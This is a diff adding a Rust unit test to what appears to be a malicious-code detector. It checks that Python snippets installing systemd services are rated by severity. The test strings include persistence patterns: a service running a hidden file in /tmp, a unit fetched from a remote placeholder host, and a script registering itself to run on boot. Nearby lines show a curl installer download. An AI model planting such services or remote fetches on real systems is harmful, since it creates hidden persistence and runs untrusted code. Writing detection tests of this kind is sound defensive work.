@@ -445,3 +445,20 @@ fn an_installer_that_was_put_into_a_file_is_known_by_its_address() {
     let other = "execFileSync('curl', ['-fsSL', 'https://files.invalid/x', '-o', '/tmp/inert-install.sh']);";
     assert!(weighs(other, "https://opencode.ai/install") >= Some(Severity::High));
 }
+
+#[test]
+fn a_service_that_somebody_asks_for_is_seen_and_not_held_against_it() {
+    use crate::model::Severity;
+    let weighs = |text: &str, end: &str| {
+        let code = format!(
+            "import os, requests\ndef set_up():\n    with open('/etc/systemd/system/inert.service', 'w') as f:\n        f.write({text})\n{end}\n"
+        );
+        weight(Language::Python, &code, "flow-persists")
+    };
+    let unit = "'[Service]\\nExecStart=/usr/bin/inert serve\\n'";
+    assert_eq!(weighs(unit, ""), Some(Severity::Medium));
+    assert!(weighs(unit, "set_up()") >= Some(Severity::High), "nobody has asked");
+    assert!(weighs("'[Service]\\nExecStart=/tmp/.x\\n'", "") >= Some(Severity::High));
+    assert!(weighs("requests.get('https://h.invalid/unit').text", "") >= Some(Severity::High));
+    assert!(weighs("'[Service]\\nExecStart=python3 ' + os.path.abspath(__file__)", "") >= Some(Severity::High));
+}
